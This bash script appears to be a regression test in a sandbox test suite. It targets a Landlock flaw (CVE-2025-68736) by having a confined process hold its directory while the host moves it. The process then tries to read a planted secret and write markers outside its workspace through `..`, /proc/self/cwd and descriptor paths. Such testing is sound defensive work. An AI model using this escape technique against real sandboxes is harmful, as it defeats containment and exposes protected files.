#!/bin/bash
# CVE-2025-68736, Linux (Landlock): a directory that was moved out of a bind mount while a process stood in
# it had more rights than the rules gave; the walk to `..` left the mount.
# Escaped: a process whose directory the host moves out of the project reads or writes beside it.
# shellcheck disable=SC2317,SC2034,SC2016
NEEDS="commands"
. "${0%/*}/../lib.sh"
prepare() { secret_out; mkdir "$WS/sub"; }
attack()
{
    inside 'cd sub; exec 9<.; touch ready; n=0; while [ ! -e go ] && [ $n -lt 600 ]; do sleep 0.05; n=$((n + 1)); done
        cat ../secret /proc/self/cwd/../secret /proc/self/fd/9/../secret; touch ../marker; cd ..; cat secret; touch marker; mv go ../marker; ln go ../marker' &
    eventually test -e "$WS/sub/ready"
    mv "$WS/sub" "$OUT/sub"
    touch "$OUT/sub/go"
    wait
    idle=0
    grep -q '^= ran' "$R"/said* || idle=1
}
escaped() { marked || grep -qs "$SECRET" "$R"/said*; }
attempt "the directory is moved away on the host"
